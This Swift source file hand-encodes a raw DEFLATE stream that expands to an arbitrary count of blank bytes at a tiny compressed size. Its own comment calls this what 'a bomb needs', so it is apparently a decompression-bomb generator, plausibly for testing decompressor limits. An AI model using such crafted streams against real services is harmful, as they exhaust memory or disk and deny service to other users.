/// Packs the one thing that a bomb needs: blanks many times over, two bits for 258 of them (RFC 1951).
public enum Deflate {
  /// So many blanks.
  public static func blanks(_ count: Int) -> [UInt8] {
    var bits = Bits()
    bits.put(1, count: 1)  // the last block
    bits.put(2, count: 2)  // with codes of its own
    bits.put(29, count: 5)  // for 286 literals and lengths,
    bits.put(0, count: 5)  // one distance,
    bits.put(14, count: 4)  // 18 codes for the lengths of codes:
    // those of 18 (many zeros) 1 bit, of 2 and 1 two bits.
    for length in [0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 2] as [UInt32] {
      bits.put(length, count: 3)
    }
    func zeros(_ count: UInt32) {
      bits.putCode(0, count: 1)
      bits.put(count - 11, count: 7)
    }
    zeros(32)
    bits.putCode(0b11, count: 2)  // a blank has 2 bits,
    zeros(138)
    zeros(85)
    bits.putCode(0b11, count: 2)  // the end 2,
    zeros(28)
    bits.putCode(0b10, count: 2)  // a length of 258 1,
    bits.putCode(0b10, count: 2)  // the distance of one 1.
    bits.putCode(0b10, count: 2)
    var left = count - 1
    while left >= 258 {
      bits.putCode(0, count: 2)
      left -= 258
    }
    for _ in 0..<left { bits.putCode(0b10, count: 2) }
    bits.putCode(0b11, count: 2)
    return bits.bytes
  }

  private struct Bits {
    private(set) var bytes: [UInt8] = []
    private var used = 8

    /// The lowest bit first, as numbers stand.
    mutating func put(_ value: UInt32, count: Int) {
      for place in 0..<count { put(bit: value >> UInt32(place) & 1) }
    }

    /// The highest bit first, as codes stand.
    mutating func putCode(_ code: UInt32, count: Int) {
      for place in (0..<count).reversed() { put(bit: code >> UInt32(place) & 1) }
    }

    private mutating func put(bit: UInt32) {
      if used == 8 {
        bytes.append(0)
        used = 0
      }
      bytes[bytes.count - 1] |= UInt8(bit) << UInt8(used)
      used += 1
    }
  }
}
